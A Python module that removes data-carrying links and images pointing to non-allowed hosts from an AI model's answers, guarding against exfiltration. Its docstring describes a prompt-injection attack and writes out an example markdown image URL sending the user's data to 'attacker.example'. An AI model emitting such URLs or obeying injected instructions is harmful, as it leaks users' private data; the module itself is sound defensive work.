"""Output-side exfiltration guard: links and images whose URL carries data to hosts the department has not allowed.

An injected instruction can make the model write ``![](https://attacker.example/p?q=<the user's data>)``: the
browser fetches the image as soon as the answer is shown and the data has left. ``strip_exfil_links`` removes such
URLs from markdown images and links, reference definitions, autolinks, bare URLs and HTML ``src``/``href``
attributes, keeping the link text. A URL *carries data* when it has a query string, a fragment, user info, or a path
that is long or holds a long segment; a bare host or a short path (``https://example.com/docs``) is left alone.
A host is allowed when it equals an allowed entry or is a subdomain of one (``example.com`` allows
``docs.example.com``); relative links and ``mailto:`` are not fetched and stay.

Streaming answers are filtered by ``guardrails.streaming.OutputStream``, which applies the same rules. Pure
functions, no I/O.
"""

from __future__ import annotations

import re
import urllib.parse
from collections.abc import Iterable
from dataclasses import dataclass

import re2

MAX_PLAIN_PATH = 48  # a path longer than this (or with a segment of 24+ characters) is treated as carrying data
MAX_PLAIN_SEGMENT = 24
REMOVED_IMAGE = "[image removed]"
REMOVED_LINK = "[link removed]"

_URL_CHARS = r"[^\s<>\"'`]"
# The markdown patterns run with RE2 (linear whatever the text holds: with Python's re, 20,000 "[" took 3 s and
# 100,000 about a minute); ``\s`` is spelled out (RE2's is ASCII only).
_WS = r"\t\n\x0b\f\r \x1c-\x1f\x85\p{Z}"
_MD_TARGET = (
    rf"\]\([{_WS}]*<?([^(){_WS}>]*(?:\([^(){_WS}]*\)[^(){_WS}>]*)*)>?"
    rf"(?:[{_WS}]+(?:\"[^\"]*\"|'[^']*'))?[{_WS}]*\)"
)
_MD_IMAGE_RE = re2.compile(r"!\[([^\]\n]*)" + _MD_TARGET)
# A link, or (first group "!") an image that was kept: images are handled first, so that one is left as it is.
_MD_LINK_RE = re2.compile(r"(!?)\[([^\]\n]*)" + _MD_TARGET)
_REF_DEF_RE = re2.compile(rf"(?m)^([ ]{{0,3}}\[[^\]\n]+\]:[ \t]*)<?([^{_WS}]+?)>?([ \t]+.*)?$")
_AUTOLINK_RE = re.compile(r"<((?:https?:)?//[^<>\s]*)>", re.IGNORECASE)
_HTML_ATTR_RE = re.compile(r"""\b(src|href|srcset|background|poster|data)\s*=\s*(["']?)([^"'\s>]+)\2""", re.I)
_BARE_URL_RE = re.compile(r"(?<![\w/(\[<=\"':])(?:https?:)?//" + _URL_CHARS + r"+", re.IGNORECASE)
_TRAILING_PUNCT = ".,;:!?)]}*_~"


@dataclass(frozen=True)
class LinkResult:
    text: str
    removed: int


def normalize_hosts(hosts: Iterable[str]) -> frozenset[str]:
    """Lower-cased hosts without scheme, port, path or a leading ``*.``."""
    out = set()
    for raw in hosts:
        host = raw.strip().lower()
        if "//" in host:
            host = urllib.parse.urlsplit(host).hostname or ""
        host = host.split("/")[0].split(":")[0].removeprefix("*.").strip(".")
        if host:
            out.add(host)
    return frozenset(out)


def host_allowed(host: str, allowed: frozenset[str]) -> bool:
    host = host.lower().strip(".")
    return any(host == a or host.endswith("." + a) for a in allowed)


def carries_data(url: str) -> bool:
    """True when the URL could smuggle data out: query, fragment, user info, or a long path / path segment."""
    parts = urllib.parse.urlsplit(url)
    if parts.query or parts.fragment or "@" in parts.netloc:
        return True
    path = urllib.parse.unquote(parts.path)
    if len(path) > MAX_PLAIN_PATH:
        return True
    return any(len(seg) >= MAX_PLAIN_SEGMENT for seg in path.split("/"))


def is_exfil_url(url: str, allowed: frozenset[str]) -> bool:
    """A fetchable URL to a host that is not allowed and that carries data."""
    cleaned = "".join(ch for ch in url.strip() if not ch.isspace())
    if cleaned.startswith("//"):
        cleaned = "https:" + cleaned
    try:
        parts = urllib.parse.urlsplit(cleaned)
        host = parts.hostname or ""
    except ValueError:
        return True  # a URL that does not parse is not shown
    if parts.scheme.lower() not in {"http", "https"} or not host:
        return False  # relative links, mailto:, anchors: nothing is fetched from elsewhere
    return not host_allowed(host, allowed) and carries_data(cleaned)


def strip_exfil_links(text: str, *, allowed_hosts: Iterable[str]) -> LinkResult:
    """Remove data-carrying URLs to hosts outside ``allowed_hosts`` (images, links, definitions, bare URLs)."""
    allowed = normalize_hosts(allowed_hosts)
    removed = 0

    def image(m: re2._Match[str]) -> str:
        nonlocal removed
        if not is_exfil_url(m.group(2), allowed):
            return m.group(0)
        removed += 1
        alt = m.group(1).strip()
        return f"[image: {alt}]" if alt else REMOVED_IMAGE

    def link(m: re2._Match[str]) -> str:
        nonlocal removed
        if m.group(1) or not is_exfil_url(m.group(3), allowed):
            return m.group(0)
        removed += 1
        return m.group(2) if m.group(2).strip() else REMOVED_LINK

    def ref_def(m: re2._Match[str]) -> str:
        nonlocal removed
        if not is_exfil_url(m.group(2), allowed):
            return m.group(0)
        removed += 1
        return m.group(1) + REMOVED_LINK

    def autolink(m: re.Match[str]) -> str:
        nonlocal removed
        if not is_exfil_url(m.group(1), allowed):
            return m.group(0)
        removed += 1
        return REMOVED_LINK

    def attr(m: re.Match[str]) -> str:
        nonlocal removed
        if not is_exfil_url(m.group(3), allowed):
            return m.group(0)
        removed += 1
        return f'{m.group(1)}=""'

    def bare(m: re.Match[str]) -> str:
        nonlocal removed
        url = m.group(0)
        tail = ""
        while url and url[-1] in _TRAILING_PUNCT:
            tail = url[-1] + tail
            url = url[:-1]
        if not is_exfil_url(url, allowed):
            return m.group(0)
        removed += 1
        return REMOVED_LINK + tail

    work = _MD_IMAGE_RE.sub(image, text)
    work = _MD_LINK_RE.sub(link, work)
    work = _REF_DEF_RE.sub(ref_def, work)
    work = _AUTOLINK_RE.sub(autolink, work)
    work = _HTML_ATTR_RE.sub(attr, work)
    work = _BARE_URL_RE.sub(bare, work)
    return LinkResult(text=work, removed=removed)
